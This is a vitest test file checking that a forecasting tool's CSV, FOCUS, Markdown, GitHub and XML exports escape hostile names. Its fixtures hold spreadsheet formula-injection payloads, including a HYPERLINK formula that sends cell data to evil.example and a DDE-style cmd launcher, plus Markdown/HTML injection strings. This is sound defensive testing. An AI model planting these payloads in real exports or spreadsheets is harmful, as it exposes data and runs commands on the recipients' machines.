// Escaping in every text format: hostile scenario and item names (commas, quotes, newlines, formula
// prefixes, Markdown and HTML) survive CSV and Markdown intact and inert.
import { visibleText } from '../../src/format/markdownSafe.js';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { assembleCsvLong, CLASS_COLUMNS, csvLongRows, csvText, formatCsv, LONG_COLUMNS } from '../../src/format/csv.js';
import { withEmptyCells } from '../../src/format/csvCells.js';
import { focusRows, formatFocus } from '../../src/format/focus.js';
import { escapeData, escapeProperty } from '../../src/format/github.js';
import { xml } from '../../src/format/junit.js';
import { formatMarkdown, md } from '../../src/format/markdown.js';
import { run, simpleScenario } from '../helpers.js';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"click"), with | pipes\nand a new line';
const HOSTILE_ITEMS = [
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\tTabbed',
  '\rCarriage',
  'a, "quoted", item',
  '[link](http://x) <b>bold</b> *em* `code` # h',
  '1. not a list',
];

function hostileReport() {
  const yaml = simpleScenario(
    `overheads:\n${HOSTILE_ITEMS.map((n) => `  - { name: ${JSON.stringify(n)}, monthly: 10 }`).join('\n')}\n`,
  ).replace('name: hand-checked', `name: ${JSON.stringify(HOSTILE_NAME)}\nstart_month: 2027-01`);
  return run(yaml);
}

/** A spreadsheet runs a cell as a formula when it starts with one of these. */
const FORMULA = /^[=+\-@\t\r]/;

describe('CSV cells', () => {
  it('quotes per RFC 4180 and neutralises formula prefixes', () => {
    expect(csvText('plain')).toBe('plain');
    expect(csvText('a,b')).toBe('"a,b"');
    expect(csvText('say "hi"')).toBe('"say ""hi"""');
    expect(csvText('two\nlines')).toBe('"two\nlines"');
    expect(csvText('=1+1')).toBe("'=1+1");
    expect(csvText('+1')).toBe("'+1");
    // One rule for every CSV: a plain number written as text is data and stays as it is; anything
    // else that starts with a formula character is neutralised.
    expect(csvText('-1')).toBe('-1');
    expect(csvText('-1+1')).toBe("'-1+1");
    expect(csvText('-0.30')).toBe('-0.30');
    expect(csvText('@x')).toBe("'@x");
    expect(csvText('\tx')).toBe("'\tx");
    expect(csvText('\rx')).toBe('"\'\rx"');
    expect(csvText('=A1,"b"')).toBe('"\'=A1,""b"""');
  });
});

describe('class and target columns (portfolios)', () => {
  const portfolio = () =>
    run(
      simpleScenario('strategies:\n  routed:\n    routes:\n      workload: { to: self_hosted }\n').replace(
        'name: hand-checked',
        'name: portfolio\nstart_month: 2027-01',
      ),
    );

  it('CSV long gains class and target after the other columns only when a report has them', () => {
    const v1 = hostileReport();
    expect(formatCsv([v1]).split('\r\n')[0]).toBe(LONG_COLUMNS.join(','));
    const text = formatCsv([v1, portfolio()], 'long', ['v1.yaml', 'p.yaml']);
    const rows = parse(text, { columns: true, relax_column_count: false }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([...LONG_COLUMNS, ...CLASS_COLUMNS]);
    const gpu = rows.find((r) => r.file === 'p.yaml' && r.strategy === 'routed' && r.category === 'gpu')!;
    expect([gpu.class, gpu.target]).toEqual(['', 'self_hosted']);
    // The v1 rows (hostile names with commas, quotes, line breaks) keep every cell and get empty ones.
    const alone = parse(formatCsv([v1], 'long', ['v1.yaml']), { columns: true }) as Record<string, string>[];
    const mixed = rows.filter((r) => r.file === 'v1.yaml');
    expect(mixed).toEqual(alone.map((r) => ({ ...r, class: '', target: '' })));
  });

  it('a many-file run assembled from pieces writes the bytes a one-call run writes', () => {
    const reports = [hostileReport(), portfolio(), hostileReport()];
    const files = ['a.yaml', 'p.yaml', 'b.yaml'];
    const tagged = [false, true, false];
    const pieces = reports.map((r, i) => ({ text: csvLongRows(r, files[i], tagged[i]), tagged: tagged[i]! }));
    expect(assembleCsvLong(pieces).join('')).toBe(formatCsv(reports, 'long', files));
  });

  it('inserts empty cells outside quoted cells only', () => {
    const rows = '"a,b",c,"x\r\ny"\r\n1,"q""",3\r\n';
    expect(withEmptyCells(rows, 3, 2)).toBe('"a,b",c,"x\r\ny",,\r\n1,"q""",3,,\r\n');
    expect(withEmptyCells(rows, 1, 1)).toBe('"a,b",,c,"x\r\ny"\r\n1,,"q""",3\r\n');
    const focus = focusRows(hostileReport(), 'h.yaml');
    const parsed = parse(withEmptyCells(focus, 36, 1)) as string[][];
    const plain = parse(focus) as string[][];
    expect(parsed).toEqual(plain.map((r) => [...r.slice(0, 36), '', ...r.slice(36)]));
  });
});

describe('hostile names', () => {
  const report = hostileReport();

  for (const layout of ['long', 'wide'] as const) {
    it(`survive ${layout} CSV intact (after the neutralising quote) and inert`, () => {
      const text = formatCsv([report], layout);
      const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
      for (const r of rows) {
        expect(r.scenario).toBe(`'${HOSTILE_NAME}`);
        for (const v of Object.values(r)) expect(v).not.toMatch(FORMULA);
      }
      if (layout === 'long') {
        const names = new Set(rows.map((r) => r.item));
        for (const n of HOSTILE_ITEMS) expect(names).toContain(FORMULA.test(n) ? `'${n}` : n);
      }
      // Every record has as many fields as the header: nothing broke out of its cell.
      const records = parse(text) as string[][];
      expect(new Set(records.map((r) => r.length)).size).toBe(1);
    });
  }

  it('survive the FOCUS export intact and inert', () => {
    const rows = parse(formatFocus([report]), { columns: true }) as Array<Record<string, string>>;
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(FORMULA);
    expect(new Set(rows.map((r) => r.ChargeDescription))).toContain(`Forecast: ${HOSTILE_ITEMS[0]}`);
    expect(rows[0]!.BillingAccountName).toBe(`'${HOSTILE_NAME}`);
  });

  it('stay inert in Markdown: no link, HTML, heading, list or broken table row', () => {
    const text = formatMarkdown([{ file: 'x.yaml', report }]);
    const heading = text.split('\n')[0]!;
    // The name is one line, every Markdown-active character escaped; unescaping gives it back.
    expect(heading.startsWith('## ')).toBe(true);
    expect(visibleText(heading.slice(3).replace(/\\(.)/g, '$1'))).toBe(HOSTILE_NAME.replace('\n', ' '));
    expect(text).not.toMatch(/(?<!\\)[<[]/);
    // Table rows keep their cell count: pipes from names are escaped.
    for (const line of text.split('\n').filter((l) => l.startsWith('|'))) {
      const cells = line.split(/(?<!\\)\|/).length;
      expect(cells).toBeGreaterThanOrEqual(4);
      expect(line.endsWith('|')).toBe(true);
    }
    const summary = formatMarkdown([
      { file: 'a|b\n.yaml', report },
      { file: 'c.yaml', report },
    ]);
    const rows = summary.split('\n').filter((l) => l.startsWith('| '));
    expect(new Set(rows.slice(0, 4).map((l) => l.split(/(?<!\\)\|/).length)).size).toBe(1);
  });

  it('md() escapes what Markdown would act on and nothing is lost', () => {
    const s = '[x](y) <img src=x> *a* _b_ `c` | d $e$ & f ~g~ #h !i';
    expect(visibleText(md(s).replace(/\\(.)/g, '$1'))).toBe(s);
    expect(md('- item')).toBe('\\- item');
    expect(md('12. item')).toBe('12\\. item');
    // Control characters (CR, LF) become spaces, one each: a line break would end a table row.
    expect(md('a\r\nb\nc')).toBe('a  b c');
  });
});

describe('CI escapes', () => {
  it('GitHub workflow commands encode %, CR, LF and property separators', () => {
    expect(escapeData('50% over\r\nnext')).toBe('50%25 over%0D%0Anext');
    expect(escapeProperty('a:b,c')).toBe('a%3Ab%2Cc');
  });

  it('XML escapes markup and drops characters XML cannot carry', () => {
    expect(xml('<a href="x">&\'</a>')).toBe('&lt;a href=&quot;x&quot;&gt;&amp;&apos;&lt;/a&gt;');
    expect(xml('bell\u0007 nul\u0000')).toBe('bell nul');
    expect(xml('two\nlines')).toBe('two&#10;lines');
  });
});
